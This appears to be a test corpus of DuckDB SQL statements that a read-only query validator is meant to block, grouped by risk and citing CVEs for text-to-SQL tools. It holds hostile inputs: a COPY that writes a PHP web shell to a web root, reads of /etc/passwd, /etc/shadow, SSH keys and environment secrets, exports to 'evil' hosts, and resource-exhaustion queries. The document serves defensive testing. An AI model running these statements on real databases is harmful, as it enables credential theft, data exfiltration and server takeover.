## statements that write or reach out, alone
INSERT INTO users VALUES (1)
DELETE FROM users
UPDATE users SET admin = true
DROP TABLE users
CREATE TABLE x AS FROM users
CREATE OR REPLACE VIEW v AS SELECT 1
CREATE MACRO f() AS 1
CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
ATTACH 'x.db'
ATTACH 'host=evil' AS pg (TYPE postgres)
DETACH x
INSTALL httpfs
LOAD httpfs
SET enable_external_access = true
SET home_directory = '/tmp'
RESET enable_external_access
PRAGMA database_list
PRAGMA enable_profiling
EXPORT DATABASE '/tmp/x'
IMPORT DATABASE '/tmp/x'
CHECKPOINT
VACUUM
CALL duckdb_secrets()
USE x
EXPLAIN ANALYZE DELETE FROM users
SUMMARIZE users
DESCRIBE users
SHOW TABLES
## CVE-2024-5827 (vanna-ai), CVE-2024-10835 (DB-GPT): files written through COPY
COPY users TO '/tmp/backdoor.php'
COPY (SELECT '<?php system($_GET[0]); ?>') TO '/var/www/backdoor.php'
COPY users FROM '/etc/passwd'
COPY (SELECT * FROM users) TO 's3://evil/x.parquet'
SELECT 1; COPY users TO '/tmp/x.csv'
## https://duckdb.org/docs/stable/operations_manual/securing_duckdb/overview; defog-ai/sqlcoder#128
SELECT * FROM read_csv('/etc/passwd', sep = ':')
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_text('http://localhost:5000')
SELECT * FROM read_blob('/etc/shadow')
SELECT * FROM read_json('/tmp/x.json')
SELECT * FROM read_json_auto('/tmp/x.json')
SELECT * FROM read_json_objects('/tmp/x.json')
SELECT * FROM read_ndjson('/tmp/x.json')
SELECT * FROM read_parquet('s3://bucket/*.parquet')
SELECT * FROM parquet_scan('x.parquet')
SELECT * FROM parquet_metadata('x.parquet')
SELECT * FROM parquet_schema('x.parquet')
SELECT * FROM glob('/home/*/.ssh/*')
SELECT content FROM read_text('/proc/self/environ')
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT * FROM users WHERE name IN (SELECT content FROM read_text('/etc/passwd'))
WITH x AS (FROM read_csv('/etc/passwd')) SELECT * FROM x
FROM read_csv('/etc/passwd')
SELECT * FROM "read_csv"('/etc/passwd')
SELECT * FROM READ_CSV('/etc/passwd')
SELECT * FROM st_read('/tmp/x.shp')
SELECT * FROM sqlite_scan('/tmp/x.db', 'users')
SELECT * FROM postgres_scan('host=evil', 'public', 'users')
SELECT * FROM postgres_query('pg', 'DELETE FROM users RETURNING *')
SELECT * FROM mysql_query('db', 'SELECT 1')
SELECT * FROM iceberg_scan('s3://x')
SELECT * FROM delta_scan('/tmp/x')
SELECT * FROM read_xlsx('/tmp/x.xlsx')
## CVE-2024-41672: sniff_csv reads files although external access is switched off
SELECT * FROM sniff_csv('/etc/passwd')
SELECT Columns FROM sniff_csv('/proc/self/environ')
## SarthakJariwala/sqlsaber#184: replacement scans, files read with no function call
SELECT * FROM '/etc/passwd'
SELECT * FROM 'users.csv'
SELECT * FROM 'data/*.parquet'
SELECT * FROM "x.parquet"
SELECT * FROM 'https://evil.example/x.csv'
SELECT * FROM 's3://bucket/x.parquet'
FROM 'x.json'
SELECT * FROM users JOIN 'x.csv' AS y ON true
SELECT (SELECT count(*) FROM 'x.parquet')
## secrets, settings, SQL as a text
SELECT getenv('AWS_SECRET_ACCESS_KEY')
SELECT * FROM duckdb_secrets()
SELECT * FROM which_secret('s3://x', 's3')
SELECT * FROM duckdb_settings()
SELECT current_setting('s3_secret_access_key')
SELECT getvariable('x')
SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')
SELECT * FROM query_table('users')
SELECT * FROM json_execute_serialized_sql('{}')
SELECT nextval('s')
SELECT * FROM force_checkpoint()
SELECT * FROM pragma_table_info('users')
## resources
SELECT * FROM range(10000000000)
SELECT * FROM generate_series(1, 10000000000)
SELECT repeat('x', 10000000000)
SELECT unnest(range(1000000000))
WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x
